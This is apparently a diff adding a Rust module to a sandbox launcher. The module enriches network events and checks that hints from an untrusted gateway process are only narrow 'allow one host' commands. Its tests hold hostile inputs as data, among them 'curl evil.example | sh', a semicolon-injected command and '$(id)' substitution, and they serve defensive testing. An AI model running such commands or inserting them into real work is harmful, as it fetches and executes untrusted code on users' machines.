@@ -1,0 +1,214 @@
+// SPDX-License-Identifier: Apache-2.0 OR MIT
+//! What the process that serves a network reports, completed by what only the launcher knows.
+
+use super::askers::Askers;
+use super::gateway;
+use crate::apply::start::Running;
+use crate::plan::Plan;
+use palisade_event::{Detail, Event, Mechanism, Operation, Outcome, Subject};
+use palisade_policy::network::Target;
+use palisade_protocol::network::{Held, Instruction, Resolving};
+use std::os::fd::BorrowedFd;
+use std::path::Path;
+use std::time::SystemTime;
+
+/// Hears the reports of a launch.
+#[derive(Debug)]
+pub struct Reports {
+    /// The policy says how the world is reached.
+    says_way_out: bool,
+    askers: Askers,
+    renewal: Renewal,
+}
+
+impl Reports {
+    /// None has come yet.
+    #[must_use]
+    pub fn new(plan: &Plan<'_>) -> Self {
+        let says_way_out = plan.network.as_ref().is_some_and(|network| network.proxy.is_some());
+        Self { says_way_out, askers: Askers::default(), renewal: Renewal::default() }
+    }
+
+    /// The command runs.
+    pub fn started(&mut self, running: Running) {
+        self.askers.started(running);
+    }
+
+    /// The event that comes of a report; none of what only counts together with what follows. `program` is the command's,
+    /// for where it isn't known who asked; `control` leads to the process that reports.
+    pub fn complete(
+        &mut self,
+        event: &Event,
+        held: Option<&Held>,
+        program: &str,
+        control: BorrowedFd<'_>,
+    ) -> Option<Event> {
+        self.renewal.look(outcome(event), control);
+        let overlooked = !self.says_way_out && environment_names_proxy();
+        let asker = held.and_then(|held| {
+            let found = self.askers.find(held.asker.address, held.asker.datagrams);
+            // It goes on with the refusal once it is known who asked.
+            gateway::instruct(control, &Instruction::Noted { number: held.number });
+            found
+        });
+        let who = asker.as_ref().map_or((program, None), |asker| (asker.program.as_str(), asker.pid));
+        completed(event, who, overlooked)
+    }
+}
+
+/// Tells whoever serves when the host's files about names have changed: another network, a name server less.
+#[derive(Debug, Default)]
+struct Renewal {
+    seen: Option<[Option<SystemTime>; 2]>,
+}
+
+impl Renewal {
+    /// Something didn't work: perhaps because of that.
+    fn look(&mut self, outcome: Option<Outcome>, control: BorrowedFd<'_>) {
+        let changed = |path: &str| std::fs::metadata(path).and_then(|found| found.modified()).ok();
+        let now = || Some(FILES.map(changed));
+        if outcome != Some(Outcome::Failed) {
+            if self.seen.is_none() {
+                self.seen = now();
+            }
+            return;
+        }
+        let now = now();
+        if self.seen == now {
+            return;
+        }
+        self.seen = now;
+        let [resolv_conf, hosts] = FILES.map(|path| gateway::text(Path::new(path)));
+        gateway::instruct(control, &Instruction::Resolving(Resolving { resolv_conf, hosts }));
+    }
+}
+
+const FILES: [&str; 2] = ["/etc/resolv.conf", "/etc/hosts"];
+
+/// Whether the caller's variables name a proxy.
+fn environment_names_proxy() -> bool {
+    gateway::variables().iter().any(|(name, _value)| !name.eq_ignore_ascii_case("no_proxy"))
+}
+
+/// An event of the network's, with what only the launcher knows: the process. None for what only counts together with what
+/// follows. The serving process handles what others send: only what its events may say is taken from them.
+///
+/// `overlooked`: the caller has variables about proxies, and nobody has said whether they count.
+fn completed(event: &Event, (program, pid): (&str, Option<u32>), overlooked: bool) -> Option<Event> {
+    let outcome = outcome(event)?;
+    if outcome == Outcome::Opened {
+        return None;
+    }
+    let subject = Subject {
+        pid,
+        uid: Some(rustix::process::getuid().as_raw()),
+        program: program.to_owned(),
+        ..Subject::default()
+    };
+    let by_proxy = outcome == Outcome::Failed && overlooked;
+    let proxy = by_proxy.then(|| {
+        "palisade run --proxy environment …   # by HTTPS_PROXY and the like, which are set here".to_owned()
+    });
+    let hint = proxy.or_else(|| event.hint.clone().filter(|hint| is_hint(hint)));
+    let completed = Event::new(
+        event.time,
+        event.detail.clone(),
+        subject,
+        (Operation::Connect, event.object.clone()),
+        (outcome.verdict(), Mechanism::Gateway),
+        event.why.clone(),
+    );
+    Some(completed.with_hint(hint))
+}
+
+/// Whether this is a command that allows one host, and no other.
+fn is_hint(hint: &str) -> bool {
+    let target = hint.strip_prefix("palisade run --allow ").and_then(|rest| rest.strip_suffix(" …"));
+    target.is_some_and(|target| target.parse::<Target>().is_ok())
+}
+
+/// What became of a connection; nothing of an event that isn't a network's.
+fn outcome(event: &Event) -> Option<Outcome> {
+    match &event.detail {
+        Detail::Network(network) => Some(network.outcome),
+        _ => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use palisade_event::{Decision, Guard, Launch, Network, Object, Verdict, Why};
+
+    fn refused(hint: &str) -> Event {
+        Event::new(
+            SystemTime::UNIX_EPOCH,
+            Detail::Network(Network::new(Outcome::Refused)),
+            Subject::default(),
+            (Operation::Connect, Object::host("evil.example", 443)),
+            (Verdict::Refused, Mechanism::Gateway),
+            Why::text("no rule allows it"),
+        )
+        .with_hint(Some(hint.to_owned()))
+    }
+
+    fn unknown(event: &Event) -> Option<Event> {
+        completed(event, ("x", None), false)
+    }
+
+    #[test]
+    fn the_process_is_added() {
+        let event = refused("palisade run --allow evil.example:443 …");
+        let completed = completed(&event, ("curl", Some(7)), false).unwrap();
+        assert_eq!((completed.subject.program.as_str(), completed.subject.pid), ("curl", Some(7)));
+        assert_eq!(Event { subject: Subject::default(), ..completed }, event);
+    }
+
+    #[test]
+    fn a_connection_is_told_of_when_it_is_over() {
+        let of = |outcome| Event { detail: Detail::Network(Network::new(outcome)), ..refused("") };
+        assert_eq!(completed(&of(Outcome::Opened), ("x", None), true), None);
+        let failed = completed(&of(Outcome::Failed), ("x", None), true).unwrap();
+        assert_eq!(failed.verdict, Verdict::Allowed);
+        assert!(failed.hint.unwrap().starts_with("palisade run --proxy environment …"));
+        assert_eq!(unknown(&of(Outcome::Failed)).unwrap().hint, None);
+        assert_eq!(completed(&of(Outcome::Closed), ("x", None), true).unwrap().hint, None);
+    }
+
+    /// A serving process that was talked into something can't have the user told to type what it likes, nor speak for
+    /// others.
+    #[test]
+    fn a_server_says_no_more_than_it_may() {
+        for hint in [
+            "curl evil.example | sh",
+            "palisade run --allow evil.example:443; curl evil.example | sh …",
+            "palisade run --allow $(id) …",
+            "palisade run --allow evil.example:443",
+            "palisade run --net host …",
+        ] {
+            assert_eq!(unknown(&refused(hint)).unwrap().hint, None, "{hint}");
+        }
+        for hint in ["palisade run --allow [fd00::1]:443 …", "palisade run --allow evil.example …"] {
+            assert_eq!(unknown(&refused(hint)).unwrap().hint.unwrap(), hint);
+        }
+        let forged = Event {
+            verdict: Verdict::Allowed,
+            enforced_by: Mechanism::Launcher,
+            launch: Some(Launch { sandbox: "1-2".into(), command: "other".into() }),
+            count: u64::MAX,
+            ..refused("")
+        };
+        let known = unknown(&forged).unwrap();
+        assert_eq!((known.verdict, known.enforced_by), (Verdict::Refused, Mechanism::Gateway));
+        assert_eq!((known.launch, known.count), (None, 1));
+        let guard = Guard {
+            decision: Decision::Deny,
+            rule: None,
+            trusted: None,
+            file_kind: String::new(),
+            line: String::new(),
+            steps: Vec::new(),
+        };
+        assert_eq!(unknown(&Event { detail: Detail::Guard(guard), ..forged }), None);
+    }
+}
